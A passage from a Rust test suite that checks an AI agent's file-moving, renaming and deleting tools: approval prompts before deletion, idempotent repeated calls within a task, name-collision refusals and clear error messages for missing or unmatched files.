            .contains("already done: earlier in this task moved a.log, moved b.log"),
        "{}",
        again.for_model
    );
    let elsewhere = Toolbox::standard()
        .call(
            &replan,
            &ToolName::MoveFiles.into(),
            json!({"from": "~/work", "names": "*.log", "to": "~/archive"}),
        )
        .await;
    assert!(
        matches!(&elsewhere.outcome, ToolOutcome::Error { .. }),
        "{}",
        elsewhere.for_model
    );
    assert!(w.home.join("work/logs/a.log").exists() && !w.home.join("archive").exists());
    // Renaming one file.
    let r = call(
        ToolName::MoveFiles,
        json!({"from": "~/notes/a.txt", "to": "~/notes/renamed.txt"}),
    )
    .await;
    assert_ok(&r);
    assert_eq!(
        std::fs::read_to_string(w.home.join("notes/renamed.txt")).unwrap(),
        "note a\n"
    );
    assert!(!w.home.join("notes/a.txt").exists());
    // Renaming many by a pattern: `*` is each name without its extension; other files
    // stay, and nothing is asked (a rename loses nothing).
    w.write("pics/dawn.jpeg", "dawn\n");
    w.write("pics/dusk.jpeg", "dusk\n");
    w.write("pics/river.jpg", "river\n");
    let r = call(
        ToolName::MoveFiles,
        json!({"from": "~/pics", "names": "*.jpeg", "to": "*.jpg"}),
    )
    .await;
    assert_ok(&r);
    let mut left: Vec<String> = std::fs::read_dir(w.home.join("pics"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["dawn.jpg", "dusk.jpg", "river.jpg"]);
    assert_eq!(
        std::fs::read_to_string(w.home.join("pics/dusk.jpg")).unwrap(),
        "dusk\n"
    );
    assert!(requests(&responder).is_empty());
    // Two files given one name are refused before anything runs.
    w.write("pics/dawn.png", "png\n");
    let r = call(
        ToolName::MoveFiles,
        json!({"from": "~/pics", "names": "dawn.*", "to": "~/pics/*.gif"}),
    )
    .await;
    assert!(
        r.for_model.contains("would both be named dawn.gif"),
        "{}",
        r.for_model
    );
    assert!(w.home.join("pics/dawn.png").exists() && w.home.join("pics/dawn.jpg").exists());
    // Into the folder the files are already in: nothing would move, and the call says
    // how a rename is written instead.
    let r = call(
        ToolName::MoveFiles,
        json!({"from": "~/pics", "names": "*.png", "to": "~/pics"}),
    )
    .await;
    assert!(
        r.for_model.contains("dawn.png already is in ~/pics")
            && r.for_model.contains("a name with *"),
        "{}",
        r.for_model
    );
    assert!(w.home.join("pics/dawn.png").exists());
    // Deleting asks with what it would remove: denied, then approved.
    let input = json!({"from": "~/notes", "names": "b.txt"});
    let r = call(ToolName::DeleteFiles, input.clone()).await;
    denial(&r);
    assert!(w.home.join("notes/b.txt").exists());
    let asked = requests(&responder);
    assert_eq!(asked.len(), 1);
    assert!(
        asked[0]
            .paths
            .iter()
            .any(|p| p.path == w.home.join("notes/b.txt") && p.effect == "delete")
    );
    let mut later = w.ctx();
    later.task_id = TaskId::mint();
    let r = Toolbox::standard()
        .call(&later, &ToolName::DeleteFiles.into(), input)
        .await;
    assert_ok(&r);
    assert!(!w.home.join("notes/b.txt").exists());
    // Asked again in the same sub-task, or in a replan's sub-task of the same task: what
    // is gone is the first call's success, said as such; nothing runs and nobody is asked.
    let mut replan = w.ctx();
    replan.task_id = later.task_id.clone();
    replan.task_calls = later.task_calls.clone();
    let asked_before = requests(&responder).len();
    for ctx in [&later, &replan] {
        let again = Toolbox::standard()
            .call(
                ctx,
                &ToolName::DeleteFiles.into(),
                json!({"from": "~/notes", "names": "b.txt"}),
            )
            .await;
        assert_ok(&again);
        assert!(
            again
                .for_model
                .contains("already done: earlier in this task deleted b.txt"),
            "{}",
            again.for_model
        );
    }
    assert_eq!(requests(&responder).len(), asked_before);
    // Another task did not delete it: for that task it is missing.
    let mut other = w.ctx();
    other.task_id = TaskId::mint();
    let missing = Toolbox::standard()
        .call(
            &other,
            &ToolName::DeleteFiles.into(),
            json!({"from": "~/notes", "names": "b.txt"}),
        )
        .await;
    assert!(
        matches!(&missing.outcome, ToolOutcome::Error { .. }),
        "{}",
        missing.for_model
    );
    // Names that match nothing are said, not guessed at.
    let r = call(
        ToolName::DeleteFiles,
        json!({"from": "~/notes", "names": "*.pdf"}),
    )
    .await;
    assert!(
        matches!(&r.outcome, ToolOutcome::Error { .. }),
        "{:?}",
        r.outcome
    );
    // A file named one by one that is not there is missing.
    std::fs::create_dir_all(w.home.join("box")).expect("box");
    std::fs::write(w.home.join("box/kept.txt"), "k").expect("kept");
    let mut fresh = w.ctx();
    fresh.task_id = TaskId::mint();
    let r = Toolbox::standard()
        .call(
            &fresh,
            &ToolName::DeleteFiles.into(),
            json!({"from": "~/box", "names": "gone.txt"}),
        )
        .await;
    assert_eq!(
        r.record.failure,
        Some(ToolFailure::NotFound),
        "{}",
        r.for_model
    );
    // The folder is there: a pattern that matches nothing is no missing path (a task
    // was abandoned as naming a folder that "does not exist").
    let r = Toolbox::standard()
        .call(
            &fresh,
            &ToolName::DeleteFiles.into(),
            json!({"from": "~/box", "names": "*.pdf"}),
        )
        .await;
    assert_eq!(
        r.record.failure,
        Some(ToolFailure::Failed),
        "{}",
        r.for_model
    );
    assert!(r.for_model.contains("no file of"), "{}", r.for_model);
    // A file as `from`: names that stand for its lines are sent to the tools that change
    // lines, and an age that leaves it out says the file is there.
    std::fs::write(w.home.join("notes/plan.md"), "TODO: a\nb\n").expect("plan");
    let r = call(
        ToolName::DeleteFiles,
        json!({"from": "~/notes/plan.md", "names": "TODO"}),
    )
    .await;
    assert!(
        r.for_model.contains("is a file") && r.for_model.contains("drop_lines_containing"),
        "{}",
        r.for_model
    );
    let r = call(
        ToolName::DeleteFiles,
        json!({"from": "~/notes/plan.md", "older_than": "30 days"}),
    )
    .await;
    assert!(
        r.for_model
            .contains("exists, and is outside the sizes, ages or text given"),
        "{}",
        r.for_model
    );
    assert!(w.home.join("notes/plan.md").exists());
}
